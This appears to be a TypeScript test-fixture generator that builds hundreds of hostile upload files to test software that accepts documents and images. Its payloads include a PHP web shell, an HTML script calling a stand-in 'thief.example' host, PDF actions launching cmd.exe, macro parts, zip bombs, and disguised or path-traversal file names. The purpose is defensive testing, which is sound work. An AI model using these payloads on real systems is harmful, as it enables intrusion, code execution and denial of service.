import { deflateSync } from 'node:zlib';
import { hostileFiles } from './hostileFiles.ts';
import { makeCompoundFile } from './make/makeCompoundFile.ts';
import { makeDocx } from './make/makeDocx.ts';
import { makePdf } from './make/makePdf.ts';
import { makeJpeg, makePng, pngChunk } from './make/makePictures.ts';
import { makeZip, type ZipPart } from './make/makeZip.ts';
import type { TestFile } from './TestFile.ts';

const megabyte = 1024 * 1024;
const markup = '<!DOCTYPE html><html><script>fetch("https://thief.example")</script></html>';
const program = Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), Buffer.alloc(500, 1)]);

/** Returns more than 500 files that attack programs which store or open them, including those of the short suite. */
export async function moreHostileFiles(): Promise<readonly TestFile[]> {
  const honest = await honestFiles();
  return [
    ...(await hostileFiles()),
    ...honest.flatMap(truncated),
    ...honest.flatMap(overgrown),
    ...honest.flatMap(disguised),
    ...polyglots(honest),
    ...macros(),
    ...bombs(),
    ...hiddenScripts(honest.find(({ name }) => name === 'form.pdf')?.content ?? Buffer.alloc(0)),
  ];
}

async function honestFiles(): Promise<readonly TestFile[]> {
  const word = { name: 'WordDocument', content: Buffer.from('A quiet book.'.repeat(900)) };
  const files: readonly [string, Buffer][] = [
    ['form.pdf', await makePdf(['A quiet book.', 'Another one.'])],
    ['form.png', makePng({ width: 400, height: 300 })],
    ['form.jpg', makeJpeg([{ marker: 0xe1, data: Buffer.from('Exif\0\0MM\0*\0\0\0\x08', 'latin1') }])],
    ['form.rtf', Buffer.from('{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}\\f0 A quiet book.\\par}')],
    ['form.doc', makeCompoundFile([word, { name: '1Table', content: Buffer.alloc(9000, 1) }])],
    ['form.docx', makeDocx({ text: 'A quiet book. '.repeat(300) })],
  ];
  return files.map(([name, content]) => ({ what: name, name, content }));
}

/** Returns a file cut at every tenth of its length and near both ends. */
function truncated({ name, content }: TestFile): readonly TestFile[] {
  const tenths = Array.from({ length: 10 }, (_, tenth) => Math.floor((content.length * tenth) / 10));
  // The last sector of an old Word document can be shorter than a sector, and a PDF ends with a line break. Cuts within
  // these are harmless.
  const less = name.endsWith('.doc') ? [600, 1100, 4096] : [3, 7, 20];
  const lengths = [...tenths, 1, 8, ...less.map((bytes) => content.length - bytes)];
  return lengths.map((length) => ({
    what: `${length} of ${content.length} bytes of ${name}`,
    name,
    content: content.subarray(0, length),
  }));
}

/** Returns a file that exceeds the maximum size by one byte. */
function overgrown({ name, content }: TestFile): readonly TestFile[] {
  return [{ what: `more than 25 MB as ${name}`, name, content: Buffer.concat([content], 25 * megabyte + 1) }];
}

/** Returns files with valid content and names that can be mistaken for those of other types. */
function disguised({ name, content }: TestFile): readonly TestFile[] {
  const marks = ['\u202e', '\u202d', '\u2066', '\u2067', '\u200f', '\u061c', '\u200b', '\ufeff', '\0', '\u00ad'];
  const endings = ['exe', 'js', 'html', 'svg', 'docm', 'lnk', 'pdf.exe'];
  const names = [
    ...marks.map((mark) => `form${mark}${[...name].reverse().join('')}.exe`),
    ...marks.map((mark) => `${name}${mark}.exe`),
    ...endings.map((ending) => `../../${name}.${ending}`),
    ...endings.slice(0, 3).map((ending) => `C:\\Windows\\${name}.${ending}`),
    ...[
      `${name}/`,
      `${name}\\`,
      `${name}/..`,
      `${name}::$DATA`,
      `${name}%00.html`,
      `${name};.html`,
      `${name}_`,
      `${name}~`,
    ],
    name.replace('.', '\uff0e'),
    name.replace('.', '\u2024'),
  ];
  return names.map((disguise) => ({ what: `the name ${JSON.stringify(disguise)}`, name: disguise, content }));
}

/** Returns files that are valid in two formats. */
function polyglots(honest: readonly TestFile[]): readonly TestFile[] {
  const [pdf, png, jpg] = ['form.pdf', 'form.png', 'form.jpg'].map(
    (wanted) => honest.find(({ name }) => name === wanted)?.content ?? Buffer.alloc(0),
  );
  const zip = makeZip([{ name: 'run.exe', content: program }]);
  const added: Readonly<Record<string, Buffer>> = {
    'a page': Buffer.from(markup),
    'a script of PHP': Buffer.from('<?php system($_GET["c"]);'),
    'an archive': zip,
    'an archive with a remark': Buffer.concat([zip.subarray(0, -2), Buffer.from('\x06\0remark', 'latin1')]),
    'a PDF': pdf ?? Buffer.alloc(0),
  };
  const behind = honest.flatMap(({ name, content }) =>
    Object.entries(added)
      .filter(([what]) => !(what === 'a PDF' && name === 'form.pdf'))
      .map(([what, more]) => ({ what: `${what} behind ${name}`, name, content: Buffer.concat([content, more]) })),
  );
  const before = honest.flatMap(({ name, content }) =>
    Object.entries(added)
      .filter(([what]) => what !== 'a PDF' || name !== 'form.pdf')
      .map(([what, more]) => ({ what: `${what} before ${name}`, name, content: Buffer.concat([more, content]) })),
  );
  const inside = ['a page', 'a script of PHP', 'a PDF'].flatMap((what) => {
    const data = added[what] ?? Buffer.alloc(0);
    const comment = makeJpeg([{ marker: 0xfe, data }]);
    const text = makePng({
      width: 4,
      height: 4,
      before: [pngChunk('tEXt', Buffer.concat([Buffer.from('a\0'), data]))],
    });
    return [
      { what: `${what} in a comment of form.jpg`, name: 'form.jpg', content: comment },
      { what: `${what} in a text of form.png`, name: 'form.png', content: text },
    ];
  });
  const swapped = [
    { what: 'a PNG as jpg', name: 'form.jpg', content: png ?? Buffer.alloc(0) },
    { what: 'a JPEG as png', name: 'form.png', content: jpg ?? Buffer.alloc(0) },
  ];
  return [...behind, ...before, ...inside, ...swapped];
}

/** Returns documents with macros and controls, under the names that Office uses and under others. */
function macros(): readonly TestFile[] {
  const names = [
    ...['word/vbaProject.bin', 'word/VBAPROJECT.BIN', 'vbaProject.bin', 'word/vbaData.xml', 'customXml/vbaProject.bin'],
    ...['word/activeX/activeX2.bin', 'word/ctrlProps/a.xml', 'word/embeddings/a.exe', 'word/embeddings/Book.xlsm'],
    ...['word/embeddings/a.doc', 'word/embeddings/a.xls', 'word/embeddings/a.ppt', 'word/media/a.js', 'word/a.vbs'],
    ...['word/a.dll', 'word/a.ocx', 'word/a.ole', 'word/embeddings/oleObject12.bin', 'word/attachedToolbars.bin'],
  ];
  const docx = names.map((name) => ({
    what: `the part ${name}`,
    name: 'form.docx',
    content: makeDocx({ parts: [{ name, content: program }] }),
  }));
  const word = { name: 'WordDocument', content: Buffer.from('A quiet book.') };
  const streams = ['_VBA_PROJECT', 'VBA', 'Macros', 'MACROS', 'ObjectPool', '\x01Ole10Native', 'Package'];
  const doc = streams.map((name) => ({
    what: `the stream ${JSON.stringify(name)}`,
    name: 'form.doc',
    content: makeCompoundFile([word, { name, content: program }]),
  }));
  return [...docx, ...doc];
}

/** Returns archives that decompress to far more than their size. */
function bombs(): readonly TestFile[] {
  const zeros = Buffer.alloc(40 * megabyte);
  const part = (at: number, more: Partial<ZipPart> = {}): ZipPart => ({
    ...{ name: `word/media/${at}.xml`, content: zeros },
    ...more,
  });
  const bomb = makeZip([part(0)]);
  const files: readonly [string, readonly ZipPart[]][] = [
    ['40 MB of zeros', [part(0)]],
    ['40 MB of zeros in its text', [part(0, { name: 'word/comments.xml' })]],
    ['40 MB that are said to be 1 byte', [part(0, { statedSize: 1 })]],
    ['40 MB that are said to be 40 kB', [part(0, { statedSize: 40_000 })]],
    ['nine parts of 40 MB', Array.from({ length: 9 }, (_, at) => part(at))],
    ['more parts than a document has', Array.from({ length: 5100 }, (_, at) => part(at, { content: 'x' }))],
    ['a bomb in a bomb', [part(0, { name: 'word/embeddings/a.docx', content: Buffer.concat([bomb, zeros]) })]],
  ];
  return files.map(([what, parts]) => ({
    what: `a package with ${what}`,
    name: 'form.docx',
    content: makeDocx({ parts }),
  }));
}

/** Returns PDF files with actions: as plain text, with escaped letters, and in compressed objects. */
function hiddenScripts(pdf: Buffer): readonly TestFile[] {
  const actions = [
    '/S /JavaScript /JS (app.alert(1))',
    '/S /Launch /F (cmd.exe)',
    '/Subtype /RichMedia',
    '/AA << /O << /S /JavaScript /JS 5 0 R >> >>',
    '/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>',
  ];
  const withObject = (object: Buffer): Buffer => {
    const text = pdf.toString('latin1');
    return Buffer.from(text.replace('endobj', `endobj\n99 0 obj\n${object.toString('latin1')}\nendobj`), 'latin1');
  };
  const coded = (action: string): string =>
    action.replace(/(?<=\/)(JavaScript|JS|Launch|RichMedia)/g, (name) =>
      [...name].map((letter) => `#${letter.charCodeAt(0).toString(16)}`).join(''),
    );
  return actions.flatMap((action) => {
    const packed = deflateSync(`98 0 << ${action} >>`);
    const head = `<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`;
    const files: readonly [string, Buffer][] = [
      ['in the open', withObject(Buffer.from(`<< ${action} >>`))],
      ['in codes', withObject(Buffer.from(`<< ${coded(action)} >>`))],
      ['in packed objects', withObject(Buffer.concat([Buffer.from(head), packed, Buffer.from('\nendstream')]))],
    ];
    return files.map(([where, content]) => ({ what: `${action} ${where}`, name: 'form.pdf', content }));
  });
}
